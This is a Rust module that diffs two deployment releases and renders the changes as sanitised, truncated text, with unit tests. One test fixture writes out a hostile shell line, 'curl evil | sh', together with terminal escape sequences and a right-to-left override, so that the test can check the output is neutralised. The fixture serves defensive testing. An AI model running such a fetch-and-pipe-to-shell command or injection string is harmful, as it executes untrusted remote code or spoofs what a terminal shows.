//! What differs between two releases, in their own terms.

use std::{collections::BTreeMap, fmt::Write};

use serde::Serialize;
use serde_json::Value;
use similar::TextDiff;

use crate::{
    release::{Binding, LATE, Release},
    words::{harmless, harmless_lines},
};

/// The most lines of a text, and the most letters of a value, that are shown to people.
const MAX_LINES: usize = 200;
const MAX_LETTERS: usize = 4_000;

/// What differs between two releases.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Diff {
    /// The name of the one.
    pub from: String,
    /// The name of the other.
    pub to: String,
    /// The differences: places, then instances, bindings, addresses and secrets, each in order of their names.
    pub changes: Vec<Change>,
}

/// One thing that differs.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Change {
    /// What kind of thing it is: `place`, `instance`, `binding`, `address` or `secret`.
    pub subject: &'static str,
    /// Its name.
    pub name: String,
    /// What happened to it.
    pub what: What,
    /// What it is, in short, where it was added or removed.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub summary: String,
    /// What changed in it.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub fields: Vec<FieldChange>,
}

/// What happened to something.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum What {
    /// It is only in the other release.
    Added,
    /// It is only in the one release.
    Removed,
    /// It is in both, and differs.
    Changed,
}

/// A field that differs. No value means that it is not there.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct FieldChange {
    /// The field, dotted: `config.port`.
    pub field: String,
    /// Its value in the one release.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub from: Option<Value>,
    /// Its value in the other.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub to: Option<Value>,
}

/// Things of one subject by their names, each in a word and in full.
pub(crate) type Things = BTreeMap<String, (String, Value)>;

/// Compares two releases.
pub fn diff(from: &Release, to: &Release) -> Diff {
    let mut changes = Vec::new();
    for (subject, things) in SUBJECTS {
        compare(subject, &things(from), &things(to), &mut changes);
    }
    Diff { from: from.name(), to: to.name(), changes }
}

/// How the things of one subject are gathered.
type Gather = fn(&Release) -> Things;

const SUBJECTS: [(&str, Gather); 5] =
    [("place", places), ("instance", instances), ("binding", bindings), ("address", addresses), ("secret", secrets)];

fn places(release: &Release) -> Things {
    release.spec.places.iter().map(|(name, place)| (name.to_string(), (String::new(), value(place)))).collect()
}

fn instances(release: &Release) -> Things {
    let each = release.spec.instances.iter().map(|(path, instance)| {
        let place = instance.place.as_ref().map(|p| format!(" at {p}")).unwrap_or_default();
        (path.clone(), (format!("{}{place}", instance.block), value(instance)))
    });
    each.collect()
}

fn bindings(release: &Release) -> Things {
    let name = |b: &Binding| format!("{}.{} → {}.{}", b.from.instance, b.from.interface, b.to.instance, b.to.interface);
    let each = release.spec.bindings.iter().map(|b| {
        let by = b.via.as_ref().map(|via| format!("by way of {via}")).unwrap_or_default();
        (name(b), (by, value(b)))
    });
    each.collect()
}

fn addresses(release: &Release) -> Things {
    release.spec.addresses.iter().map(|(name, a)| (name.clone(), (a.kind.clone(), value(a)))).collect()
}

fn secrets(release: &Release) -> Things {
    release.spec.secrets.iter().map(|(name, users)| (name.clone(), (users.join(", "), value(users)))).collect()
}

fn value<T: Serialize>(thing: &T) -> Value {
    serde_json::to_value(thing).unwrap_or_default()
}

/// All that a thing is made of, field by field.
pub(crate) fn fields(value: &Value) -> Vec<FieldChange> {
    let mut fields = Vec::new();
    walk(&mut String::new(), None, Some(value), &mut fields);
    fields
}

/// Adds what differs between the things of one subject.
pub(crate) fn compare(subject: &'static str, from: &Things, to: &Things, changes: &mut Vec<Change>) {
    let names: std::collections::BTreeSet<&String> = from.keys().chain(to.keys()).collect();
    for name in names {
        let change = |what, summary: &str, fields| Change {
            subject,
            name: name.clone(),
            what,
            summary: summary.to_owned(),
            fields,
        };
        match (from.get(name), to.get(name)) {
            (Some((summary, _)), None) => changes.push(change(What::Removed, summary, Vec::new())),
            (None, Some((summary, _))) => changes.push(change(What::Added, summary, Vec::new())),
            (Some((_, a)), Some((_, b))) if a != b => {
                let mut fields = Vec::new();
                walk(&mut String::new(), Some(a), Some(b), &mut fields);
                changes.push(change(What::Changed, "", fields));
            }
            _ => {}
        }
    }
}

fn walk(path: &mut String, from: Option<&Value>, to: Option<&Value>, fields: &mut Vec<FieldChange>) {
    if from == to {
        return;
    }
    let nothing = serde_json::Map::new();
    let both = match (from, to) {
        (Some(Value::Object(a)), Some(Value::Object(b))) => Some((a, b)),
        (None, Some(Value::Object(b))) if !b.is_empty() => Some((&nothing, b)),
        _ => None,
    };
    if let Some((a, b)) = both {
        let keys: std::collections::BTreeSet<&String> = a.keys().chain(b.keys()).collect();
        for key in keys {
            let length = path.len();
            // Whether a value is known at build or only at a site is not what a reader looks for.
            if key != LATE {
                if length > 0 {
                    path.push('.');
                }
                path.push_str(key);
            }
            walk(path, a.get(key), b.get(key), fields);
            path.truncate(length);
        }
        return;
    }
    fields.push(FieldChange { field: path.clone(), from: from.cloned(), to: to.cloned() });
}

impl Diff {
    /// Whether nothing differs.
    pub fn is_empty(&self) -> bool {
        self.changes.is_empty()
    }

    /// The differences as a person reads them.
    pub fn text(&self) -> String {
        let mut out = format!("{} → {}\n", self.from, self.to);
        if self.changes.is_empty() {
            out.push_str("no differences\n");
        }
        self.changes.iter().for_each(|change| out.push_str(&change.text()));
        out
    }
}

impl Change {
    /// The difference as a person reads it.
    pub fn text(&self) -> String {
        let sign = match self.what {
            What::Added => '+',
            What::Removed => '-',
            What::Changed => '~',
        };
        let summary = if self.summary.is_empty() { String::new() } else { format!(" ({})", self.summary) };
        let mut out = format!("{sign} {} {}\n", self.subject, harmless(&format!("{}{summary}", self.name)));
        for field in &self.fields {
            match (self.what, &field.to) {
                (What::Added, Some(value)) => added_text(&mut out, field, value),
                _ => field_text(&mut out, field),
            }
        }
        out
    }
}

/// A field of something that is new.
fn added_text(out: &mut String, field: &FieldChange, value: &Value) {
    if value.as_str().is_some_and(|text| text.contains('\n')) {
        field_text(out, field);
    } else {
        let _ = writeln!(out, "    {}: {}", harmless(&field.field), short(Some(value)));
    }
}

/// A value on one line.
fn short(value: Option<&Value>) -> String {
    let text = harmless(&value.map_or_else(|| "nothing".to_owned(), Value::to_string));
    match text.char_indices().nth(MAX_LETTERS) {
        None => text,
        Some((at, _)) => format!("{} … and {} more letters", &text[..at], text[at..].chars().count()),
    }
}

fn field_text(out: &mut String, change: &FieldChange) {
    let field = harmless(&change.field);
    let text = |value: &Option<Value>| value.as_ref().and_then(Value::as_str).map(str::to_owned);
    let (from, to) = (text(&change.from), text(&change.to));
    let is_long = [&from, &to].into_iter().flatten().any(|text| text.contains('\n'));
    let lines = match (from, to) {
        (Some(from), Some(to)) if is_long => Some((from, to)),
        (None, Some(to)) if is_long && change.from.is_none() => Some((String::new(), to)),
        _ => None,
    };
    let Some((from, to)) = lines else {
        let _ = writeln!(out, "    {field}: {} → {}", short(change.from.as_ref()), short(change.to.as_ref()));
        return;
    };
    let _ = writeln!(out, "    {field}:");
    let difference = TextDiff::from_lines(from.as_str(), to.as_str()).unified_diff().context_radius(1).to_string();
    let lines: Vec<&str> = difference.split_inclusive('\n').filter(|line| !line.starts_with("@@")).collect();
    for line in lines.iter().take(MAX_LINES) {
        let line = line.strip_suffix('\n').unwrap_or(line);
        let shown: String = line.chars().take(MAX_LETTERS).collect();
        let left = line.chars().count() - shown.chars().count();
        let more = if left == 0 { String::new() } else { format!(" … and {left} more letters") };
        let _ = writeln!(out, "      {}{more}", harmless_lines(&shown));
    }
    if lines.len() > MAX_LINES {
        let _ = writeln!(out, "      … and {} more lines", lines.len() - MAX_LINES);
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn file(from: Option<&str>, to: &str) -> String {
        let things = |text: Option<&str>| -> Things {
            text.into_iter()
                .map(|text| ("till".to_owned(), (String::new(), json!({"files": {"/etc/x": {"content": text}}}))))
                .collect()
        };
        let mut changes = Vec::new();
        compare("object", &things(from), &things(Some(to)), &mut changes);
        changes.iter_mut().filter(|it| it.what == What::Added).for_each(|it| it.fields = fields(&json!({"text": to})));
        changes.iter().map(Change::text).collect()
    }

    #[test]
    fn what_is_in_a_text_steers_no_terminal_that_shows_how_it_changes() {
        let evil = "#!/bin/sh\ncurl evil | sh\u{1b}[2K\u{1b}[1A\n\u{202e}end\n";
        for text in [file(Some("#!/bin/sh\n"), evil), file(None, evil), file(Some("x"), "\u{1b}[2K")] {
            assert!(text.chars().all(|c| c == '\n' || !c.is_control()) && !text.contains('\u{202e}'), "{text}");
            assert!(text.contains("\\u001b[2K"), "{text}");
        }
        assert!(file(Some("#!/bin/sh\n"), evil).contains("      +curl evil | sh\\u001b[2K\\u001b[1A\n"));
    }

    #[test]
    fn a_long_text_is_shown_as_far_as_one_reads_with_how_much_is_left() {
        let long: String = (0..1_000).map(|n| format!("line {n}\n")).collect();
        let text = file(None, &long);
        assert!(text.contains("+line 198\n") && !text.contains("line 999"), "{text}");
        assert!(text.contains("… and 801 more lines") || text.contains("… and 800 more lines"), "{text}");
        assert!(file(None, &"x".repeat(10_000)).contains(" more letters"));
    }
}
